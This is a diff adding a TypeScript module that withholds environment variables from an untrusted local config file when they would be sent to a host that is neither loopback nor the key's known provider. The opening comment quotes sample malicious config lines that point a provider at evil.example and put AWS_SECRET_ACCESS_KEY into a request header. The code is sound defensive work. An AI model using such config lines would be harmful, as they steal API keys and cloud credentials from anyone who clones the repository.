@@ -1,0 +1,139 @@
+// What a ./switchyard.yaml found in the current directory may take from the process environment. Such a file may
+// have come with a cloned repository; if it could read the shell's variables, `providers: { openai: { base_url:
+// https://evil.example/v1 } }` would receive OPENAI_API_KEY (through key_env) at the first `switchyard chat` there,
+// and `headers: { X-Steal: ${AWS_SECRET_ACCESS_KEY} }` any other variable. So, until the user trusts the file
+// (`switchyard config trust`, trust.ts), a variable it reads from the environment is withheld when its value would be
+// sent to a host that is neither on this machine (loopback: whatever runs there could read the environment itself)
+// nor the variable's own well-known home (OPENAI_API_KEY → api.openai.com). Its own .env is not restricted: it sits
+// beside the file, in the same repository. Stored keys are bound to hosts separately (credentials/host-binding.ts).
+import { originOf } from '../credentials/host-binding.ts';
+import type { Config } from './schema.ts';
+import type { ConfigPath } from './issue.ts';
+import { formatPath } from './issue.ts';
+
+/** The hosts each well-known key variable belongs to: sending it there is what any config would do. */
+const HOMES: Readonly<Record<string, readonly string[]>> = {
+  OPENAI_API_KEY: ['https://api.openai.com'],
+  ANTHROPIC_API_KEY: ['https://api.anthropic.com'],
+  DEEPSEEK_API_KEY: ['https://api.deepseek.com'],
+  GEMINI_API_KEY: ['https://generativelanguage.googleapis.com'],
+  GOOGLE_API_KEY: ['https://generativelanguage.googleapis.com'],
+  GROQ_API_KEY: ['https://api.groq.com'],
+  MISTRAL_API_KEY: ['https://api.mistral.ai'],
+  OPENROUTER_API_KEY: ['https://openrouter.ai'],
+  XAI_API_KEY: ['https://api.x.ai'],
+};
+
+/** An environment variable the local config reads but may not send where it would go. */
+export interface WithheldVariable {
+  name: string;
+  /** The hosts (origins) it would have gone to that are neither loopback nor its home. */
+  hosts: string[];
+  /** Where the config reads it: `providers.evil.headers.X-Key`, or `providers.openai.key_env` for a key variable
+   * (named or the default `<NAME>_API_KEY`). */
+  readAt: string[];
+}
+
+function isLoopback(origin: string): boolean {
+  try {
+    const host = new URL(origin).hostname;
+    return host === 'localhost' || host === '[::1]' || /^127(\.\d{1,3}){3}$/.test(host);
+  } catch {
+    return false;
+  }
+}
+
+function approved(name: string, origin: string): boolean {
+  return isLoopback(origin) || (HOMES[name]?.includes(origin) ?? false);
+}
+
+/** `${NAME}` references in a raw string (`$${` is a literal). */
+export function referencedNames(text: string): string[] {
+  const names: string[] = [];
+  const re = /\$\$\{|\$\{([A-Za-z_][A-Za-z0-9_]*)\}/g;
+  for (let m = re.exec(text); m !== null; m = re.exec(text)) if (m[1] !== undefined) names.push(m[1]);
+  return names;
+}
+
+/** Every raw string of the document with its path. */
+function* strings(value: unknown, path: ConfigPath): Generator<[ConfigPath, string]> {
+  if (typeof value === 'string') yield [path, value];
+  else if (Array.isArray(value)) for (let i = 0; i < value.length; i++) yield* strings(value[i], [...path, i]);
+  else if (value !== null && typeof value === 'object') for (const [k, v] of Object.entries(value)) yield* strings(v, [...path, k]);
+}
+
+/** Where provider P's keys (and anything else of P's sent with a request) go: its base_url, and the base_url of any
+ * task that routes to P with a base_url of its own (that task sends P's keys there). */
+function providerHosts(config: Config, provider: string): string[] {
+  const hosts = new Set<string>();
+  const p = config.providers[provider];
+  if (p) hosts.add(originOf(p.base_url));
+  for (const task of Object.values(config.auxiliary)) if (task.provider === provider && task.base_url) hosts.add(originOf(task.base_url));
+  return [...hosts];
+}
+
+function allProviderHosts(config: Config): string[] {
+  return [...new Set(Object.keys(config.providers).flatMap((p) => providerHosts(config, p)))];
+}
+
+/** A route-like object on the path (main, a fallback entry, a task, a fallback_chain entry): its provider's hosts,
+ * and its own base_url's. `auto` runs on the main chain: every provider's, to be safe. */
+function routeHosts(config: Config, node: { provider?: unknown; base_url?: unknown }): string[] {
+  const own = typeof node.base_url === 'string' ? [originOf(node.base_url)] : [];
+  if (node.provider === 'none') return own;
+  const of = typeof node.provider === 'string' && node.provider !== 'auto' ? providerHosts(config, node.provider) : allProviderHosts(config);
+  return [...new Set([...own, ...of])];
+}
+
+function at(root: unknown, path: ConfigPath): unknown {
+  let v = root;
+  for (const k of path) v = v !== null && typeof v === 'object' ? (v as Record<string | number, unknown>)[k] : undefined;
+  return v;
+}
+
+/** Where a value read at `path` may be sent: nowhere (a local setting: the gateway's listen address, its admin key,
+ * retry timings…), a provider's hosts, its proxy, or the Redis server of `gateway.state`. */
+export function hostsFor(config: Config, path: ConfigPath): string[] {
+  const [top, name, field] = path;
+  if (top === 'gateway') return name === 'state' && config.gateway.state !== 'sqlite' ? [originOf(config.gateway.state.replace(/^rediss?:/, 'http:'))] : [];
+  if (top === 'providers' && typeof name === 'string') {
+    if (field === 'proxy') return config.providers[name]?.proxy ? [originOf(config.providers[name].proxy)] : [];
+    return providerHosts(config, name);
+  }
+  // The deepest object on the path that names a provider decides (a fallback_chain entry inside a task).
+  for (let depth = path.length; depth >= 1; depth--) {
+    const node = at(config, path.slice(0, depth));
+    if (node !== null && typeof node === 'object' && !Array.isArray(node) && 'provider' in node) return routeHosts(config, node);
+  }
+  return [];
+}
+
+/**
+ * The variables an untrusted local config reads from the process environment that would go to a host other than
+ * loopback or their home. `raw` is the document as written (for its `${VAR}` references), `config` the same document
+ * interpolated with the whole environment (for where values go: nothing has been sent at this point), `keyEnv` the
+ * key variable of each provider (key_env, or its default).
+ */
+export function withheldVariables(raw: unknown, config: Config, env: Readonly<Record<string, string | undefined>>, keyEnv: ReadonlyMap<string, string>): Map<string, WithheldVariable> {
+  const out = new Map<string, WithheldVariable>();
+  const note = (name: string, hosts: readonly string[], readAt: string): void => {
+    if (env[name] === undefined) return;
+    const refused = hosts.filter((h) => !approved(name, h));
+    if (refused.length === 0) return;
+    const w = out.get(name) ?? { name, hosts: [], readAt: [] };
+    for (const h of refused) if (!w.hosts.includes(h)) w.hosts.push(h);
+    if (!w.readAt.includes(readAt)) w.readAt.push(readAt);
+    out.set(name, w);
+  };
+  for (const [path, text] of strings(raw, [])) {
+    const names = referencedNames(text);
+    if (names.length > 0) for (const name of names) note(name, hostsFor(config, path), formatPath(path));
+  }
+  for (const [provider, variable] of keyEnv) note(variable, providerHosts(config, provider), `providers.${provider}.key_env`);
+  return out;
+}
+
+/** Why a variable is not read, for messages: names it, where it would have gone and the fix. */
+export function withheldWhy(w: WithheldVariable, file: string): string {
+  return `${w.name} is set in the environment, but ${file} was found in the current directory (it may have come with a cloned repository) and would send it to ${w.hosts.join(', ')}; it is not read. If the file is yours, \`switchyard config trust\` lets it read the environment`;
+}
